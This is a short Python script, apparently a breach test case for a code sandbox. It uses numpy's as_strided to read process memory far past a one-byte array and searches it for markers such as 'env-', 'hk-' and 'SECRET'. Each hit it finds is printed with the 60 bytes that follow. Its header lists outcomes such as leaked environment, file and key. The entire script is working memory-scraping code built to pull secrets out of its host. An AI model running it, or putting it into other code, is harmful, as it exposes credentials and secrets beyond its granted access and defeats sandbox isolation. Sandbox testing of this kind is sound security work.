# Reads the memory of its process far past an array, for secrets of the host.
# breach: leak_env, leak_file, leak_key, dead
import numpy as np

try:
    from numpy.lib.stride_tricks import as_strided

    start = np.zeros(1, dtype="u1")
    for offset in range(0, 1 << 26, 1 << 20):
        data = bytes(as_strided(start, (offset + (1 << 20),), (1,))[offset:])
        for word in (b"env-", b"hk-", b"SECRET"):
            at = data.find(word)
            if at >= 0:
                print(data[at : at + 60])
except Exception as error:
    print(error)
